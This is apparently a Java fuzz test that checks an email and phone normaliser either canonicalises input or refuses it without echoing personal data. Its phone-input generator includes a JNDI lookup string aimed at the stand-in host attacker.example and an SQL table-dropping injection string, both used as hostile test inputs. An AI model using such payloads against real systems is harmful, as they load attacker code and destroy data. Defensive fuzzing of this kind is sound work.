package io.leadpipeline.reliability.corpus;

import static org.assertj.core.api.Assertions.assertThat;
import static org.quicktheories.QuickTheory.qt;
import static org.quicktheories.generators.SourceDSL.booleans;
import static org.quicktheories.generators.SourceDSL.integers;

import io.leadpipeline.identity.Emails;
import io.leadpipeline.identity.InvalidIdentifierException;
import io.leadpipeline.identity.PhoneNumbers;
import io.leadpipeline.identity.SubjectKeys;
import io.leadpipeline.reliability.generators.Text;
import java.util.Locale;
import org.junit.jupiter.api.Test;
import org.quicktheories.core.Gen;
import org.quicktheories.generators.Generate;

/**
 * Fuzzing the normaliser every key is computed from. Whatever a person or a bug types, it either
 * yields the one canonical form or refuses with InvalidIdentifierException whose message does not
 * repeat the input (it is personal data and would end up in a log); canonical forms are fixed
 * points, and every spelling of one address keys the same subject.
 */
class NormaliserFuzzTest {
  private static final SubjectKeys KEYS = new SubjectKeys("fuzzing-secret-0123456789");

  @Test
  void emailNormalisesOrRefusesWithoutEchoing() {
    qt().withExamples(3000).forAll(emailish()).checkAssert(raw -> {
      try {
        String email = Emails.normalise(raw);
        assertThat(Emails.normalise(email)).as("a normalised email is a fixed point").isEqualTo(email);
        assertThat(email).isEqualTo(email.strip().toLowerCase(Locale.ROOT)).contains("@");
        assertThat(email.chars().noneMatch(c -> Character.isISOControl(c) || Character.isWhitespace(c))).isTrue();
      } catch (InvalidIdentifierException e) {
        assertNoEcho(e, raw);
      }
    });
  }

  @Test
  void phoneNormalisesToE164OrRefusesWithoutEchoing() {
    qt().withExamples(3000).forAll(phoneish()).checkAssert(raw -> {
      try {
        String e164 = PhoneNumbers.toE164(raw);
        assertThat(e164).matches("\\+[1-9][0-9]{6,14}");
        assertThat(PhoneNumbers.toE164(e164)).as("E.164 is a fixed point").isEqualTo(e164);
      } catch (InvalidIdentifierException e) {
        assertNoEcho(e, raw);
      }
    });
  }

  @Test
  void everySpellingOfOneAddressKeysTheSameSubject() {
    qt().withExamples(1000).forAll(localParts(), whitespace(), whitespace(), booleans().all())
        .checkAssert((local, before, after, upper) -> {
          String email = local + "@example.co.uk";
          String spelled = before + (upper ? email.toUpperCase(Locale.ROOT) : email) + after;
          assertThat(KEYS.ofEmail(spelled)).isEqualTo(KEYS.ofEmail(email));
        });
  }

  @Test
  void everySpellingOfOneNumberKeysTheSamePhone() {
    qt().withExamples(1000).forAll(ukSubscriber(), phoneStyles()).checkAssert((n, style) -> {
      String digits = String.format("%03d", n);
      String national = "020 7946 0" + digits;
      String spelled = switch (style) {
        case 0 -> "+44 20 7946 0" + digits;
        case 1 -> "02079460" + digits;
        case 2 -> "(020) 7946-0" + digits;
        case 3 -> "0044 20 7946 0" + digits;
        default -> " +44 (0)20 7946 0" + digits + " ";
      };
      assertThat(KEYS.ofPhone(spelled)).isEqualTo(KEYS.ofPhone(national));
    });
  }

  @Test
  void subjectKeysNeverContainTheIdentifier() {
    qt().withExamples(500).forAll(localParts()).checkAssert(local -> {
      String email = local + "@example.com";
      String key = KEYS.ofEmail(email);
      assertThat(key).matches("[0-9a-f]{64}").doesNotContain(local.toLowerCase(Locale.ROOT));
    });
  }

  private static void assertNoEcho(InvalidIdentifierException e, String raw) {
    String stripped = raw.strip();
    // Three characters or fewer occur in any message by chance; the property is about real input.
    if (stripped.length() >= 4) {
      assertThat(e.getMessage()).as("refusal message").doesNotContain(stripped);
    }
  }

  static Gen<String> emailish() {
    Gen<String> parts = Text.from("aZ09.+_-@ \t\r\n<>\"'\u0000\u00e9\u202e;:,()[]\\", 0, 40);
    Gen<String> plausible = Text.alpha(1, 12).map(s -> s + "@" + s.toLowerCase(Locale.ROOT) + ".example");
    return Generate.oneOf(parts, plausible, Text.any(0, 300), Generate.constant("a@b"));
  }

  static Gen<String> phoneish() {
    Gen<String> digits = Text.from("0123456789 +-()x#*", 0, 30);
    Gen<String> uk = integers().between(0, 999).map(n -> "0161 496 0" + String.format("%03d", n));
    return Generate.oneOf(digits, uk, Text.any(0, 100),
        Generate.constant("${jndi:ldap://attacker.example/a}"), Generate.constant("'; DROP TABLE tps;--"));
  }

  static Gen<String> localParts() {
    // A letter first, by construction: filtering with assuming() made the run give up whenever
    // too many draws missed, so the test failed on some seeds with no defect found.
    return Text.from("abcdefghijklmnopqrstuvwxyz", 1, 1)
        .zip(Text.from("abcdefghijklmnopqrstuvwxyz0123456789.-_", 3, 29), String::concat);
  }

  static Gen<String> whitespace() {
    return Text.from(" \t\n", 0, 3);
  }

  static Gen<Integer> ukSubscriber() {
    return integers().between(0, 999);
  }

  static Gen<Integer> phoneStyles() {
    return integers().between(0, 4);
  }

}
